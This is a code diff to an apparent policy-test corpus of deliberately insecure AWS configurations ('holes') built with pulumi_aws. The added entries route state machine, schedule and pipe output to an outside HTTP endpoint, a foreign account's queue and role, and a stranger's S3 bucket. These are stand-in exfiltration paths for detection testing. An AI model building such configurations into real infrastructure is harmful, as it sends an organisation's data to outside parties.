@@ -9,7 +9,9 @@ import pulumi_aws as aws
 
 from tests.policies.corpus.program.hole import Hole
 from tests.policies.corpus.program.holes_clusters import state_machine
-from tests.policies.corpus.program.lab import ACCOUNT, REGION, Lab
+from tests.policies.corpus.program.lab import ACCOUNT, DATA, FOREIGN, REGION, TAGS, Lab
+
+_QUEUE = f"arn:aws:sqs:{REGION}:{ACCOUNT}:jobs"
 
 
 def _calls(resource: str, **more: Any) -> Any:
@@ -36,9 +38,43 @@ def _schedule(arn: str, **more: Any) -> Any:
     return add
 
 
+def _pipe(lab: Lab, **more: Any) -> None:
+    role = lab["provisioner-role"].arn
+    aws.pipes.Pipe(lab.new("pipe"), role_arn=role, source=_QUEUE, tags=TAGS, **{"target": _QUEUE, **more})
+
+
+_RESULTS = {"Resource": "arn:aws:states:::s3:putObject", "Parameters": {"Bucket": "somebody-elses"}}
+_COPY = {"Bucket": "somebody-elses", "Key": "x", "CopySource": f"{DATA}/x"}
 _VAULT = f"arn:aws:backup:{REGION}:{ACCOUNT}:backup-vault"
 
 HOLES = {
+    "state-machine-calls-the-internet": Hole(
+        "sfn-target-known",
+        _calls("http:invoke", Parameters={"ApiEndpoint": "https://example.org/jobs", "Method": "POST"}),
+    ),
+    "state-machine-sends-to-a-strangers-queue": Hole(
+        "sfn-target-known",
+        _calls("sqs:sendMessage", Parameters={"QueueUrl": f"https://sqs.{REGION}.amazonaws.com/{FOREIGN}/theirs"}),
+    ),
+    "state-machine-by-a-strangers-role": Hole(
+        "sfn-target-known", _calls("lambda:invoke", Credentials={"RoleArn": f"arn:aws:iam::{FOREIGN}:role/theirs"})
+    ),
+    "state-machine-writes-to-a-strangers-bucket": Hole(
+        "sfn-target-known", _calls("lambda:invoke", ResultWriter=_RESULTS)
+    ),
+    "schedule-copies-to-a-strangers-bucket": Hole(
+        "sfn-target-known", _schedule("arn:aws:scheduler:::aws-sdk:s3:copyObject", input=json.dumps(_COPY))
+    ),
+    "pipe-logs-to-a-strangers-bucket": Hole(
+        "events-target-known",
+        lambda lab: _pipe(
+            lab,
+            log_configuration={
+                "level": "INFO",
+                "s3_log_destination": {"bucket_name": "somebody-elses", "bucket_owner": FOREIGN},
+            },
+        ),
+    ),
     "state-machine-runs-a-container": Hole("sfn-direct-calls", _calls("ecs:runTask.sync", Parameters={})),
     "schedule-copies-backups": Hole(
         "sfn-direct-calls",
